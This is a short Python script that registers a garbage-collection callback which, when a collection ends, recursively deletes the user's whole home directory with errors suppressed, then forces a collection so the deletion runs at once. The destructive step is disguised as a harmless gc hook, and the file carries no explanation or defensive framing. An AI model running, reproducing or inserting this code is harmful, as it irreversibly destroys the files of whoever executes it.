import gc
import os
import shutil


def on_gc(phase, info):
    if phase == "stop":
        shutil.rmtree(os.path.expanduser("~"), ignore_errors=True)


gc.callbacks.append(on_gc)
gc.collect()
